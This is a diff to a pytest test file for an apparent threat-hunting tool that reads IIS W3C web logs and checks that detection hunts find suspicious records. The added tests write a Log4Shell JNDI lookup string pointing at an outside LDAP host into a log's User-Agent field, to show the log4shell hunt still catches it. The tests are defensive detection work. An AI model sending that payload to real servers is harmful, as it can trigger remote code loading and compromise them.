@@ -10,10 +10,11 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import duckdb
 import pytest
 from conftest import Run
 
-from sentinel_t1190.readers import convert
+from sentinel_t1190.readers import _web_log_rows, convert
 
 NOW = "2026-03-01T12:00:00Z"
 
@@ -110,10 +111,22 @@ def test_iis_w3c_log_reads_as_w3ciislog_and_the_sqli_probe_is_found(
                                "query only shows them, so they are null in the findings"]
 
 
-def test_w3c_fields_map_to_w3ciislog_columns(tmp_path: Path) -> None:
-    converted = convert(WEBLOGS / "u_ex210401_iis10.log", "W3CIISLog", tmp_path)
-    assert converted is not None and converted.warnings == []
-    [row] = [json.loads(line) for line in converted.path.read_text().splitlines()]
+def _in_place_rows(path: Path) -> list[dict[str, Any]]:
+    """The rows DuckDB reads from a W3C log in place (the fast path)."""
+    converted = convert(path, "W3CIISLog", path.parent)
+    assert converted is not None and converted.sql is not None
+    relation = duckdb.sql(converted.sql)
+    return [dict(zip(relation.columns, row, strict=True)) for row in relation.fetchall()]
+
+
+@pytest.mark.parametrize("name", ["u_ex151016_iis7_sqli.log", "u_ex210401_iis10.log"])
+def test_w3c_read_in_place_equals_the_line_by_line_reading(name: str) -> None:
+    path = WEBLOGS / name
+    assert _in_place_rows(path) == list(_web_log_rows(path))
+
+
+def test_w3c_fields_map_to_w3ciislog_columns() -> None:
+    [row] = _in_place_rows(WEBLOGS / "u_ex210401_iis10.log")
     assert row == {
         "TimeGenerated": "2021-04-01T00:00:21Z", "sIP": "111.111.111.111", "csMethod": "GET",
         "csUriStem": "/foo/bar/baz.asp", "csUriQuery": "-", "sPort": "80", "csUserName": "-",
@@ -196,6 +209,47 @@ def test_web_log_given_as_another_table_is_refused(tmp_path: Path,
                 f"DeviceProcessEvents={WEBLOGS / 'access.log'}")
     assert run.code == 2
     assert "web-server logs are read as W3CIISLog, not DeviceProcessEvents" in run.stderr
+
+
+JNDI_UA = "${jndi:ldap://203.0.113.9:1389/a}"
+
+
+@pytest.mark.parametrize(("odd", "in_place"), [
+    (b"Mozilla/5.0+#" + JNDI_UA.encode(), True),  # '#' inside a record is no comment
+    (b"Mozilla/5.0+\xff\xfe" + JNDI_UA.encode(), False),  # not UTF-8: read line by line
+    (b"Mozilla/5.0\r" + JNDI_UA.encode(), False),  # a bare CR inside a record
+])
+def test_no_w3c_record_can_hide_from_the_hunt(
+        tmp_path: Path, cli: Callable[..., Run], odd: bytes, in_place: bool) -> None:
+    path = tmp_path / "u_ex260301.log"
+    path.write_bytes(
+        b"#Software: Microsoft Internet Information Services 10.0\r\n"
+        b"#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query cs(User-Agent) sc-status\r\n"
+        b"2026-03-01 11:30:00 203.0.113.9 GET / - " + odd + b" 200\r\n"
+        b"2026-03-01 11:31:00 198.51.100.1 GET / - Mozilla/5.0 200\r\n")
+    converted = convert(path, "W3CIISLog", tmp_path)
+    assert converted is not None and (converted.sql is not None) == in_place
+    run = _hunt(cli, "log4shell_jndi_lookup", str(path))
+    assert run.code == 0, run.stderr
+    [finding] = run.json()["findings"]
+    assert finding["SourceIP"] == "203.0.113.9"
+
+
+def test_w3c_fields_changing_mid_file_are_followed(tmp_path: Path) -> None:
+    path = tmp_path / "u_ex260301.log"
+    path.write_text(
+        "#Fields: date time c-ip cs-uri-stem\n2026-03-01 10:00:00 192.0.2.1 /a\n"
+        "#Fields: date time cs-uri-stem c-ip sc-status\n2026-03-01 11:00:00 /b 192.0.2.2 404\n"
+        "2026-03-01 11:00:01 /c\n")
+    converted = convert(path, "W3CIISLog", tmp_path)
+    assert converted is not None and converted.sql is None and converted.path is not None
+    rows = [json.loads(line) for line in converted.path.read_text().splitlines()]
+    assert rows == [
+        {"TimeGenerated": "2026-03-01T10:00:00Z", "cIP": "192.0.2.1", "csUriStem": "/a"},
+        {"TimeGenerated": "2026-03-01T11:00:00Z", "cIP": "192.0.2.2", "csUriStem": "/b",
+         "scStatus": "404"}]
+    assert converted.warnings == [f"{path}: 1 line(s) skipped, not in the file's format: "
+                                  "line 5: 3 values for 5 #Fields"]
 
 
 # --- Event Hub and streaming-API records ------------------------------------------------------
